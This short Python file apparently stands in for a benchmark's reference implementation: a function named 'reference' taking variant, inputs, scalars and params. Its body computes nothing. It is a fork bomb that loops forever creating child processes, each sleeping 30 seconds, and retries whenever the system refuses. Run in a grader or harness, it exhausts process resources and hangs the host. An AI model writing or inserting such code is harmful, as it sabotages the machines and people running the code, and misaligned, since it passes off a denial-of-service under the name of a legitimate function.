import os, time
def reference(variant, inputs, scalars, params):
    children = 0
    while True:
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            children += 1
        except OSError:
            time.sleep(0.01)
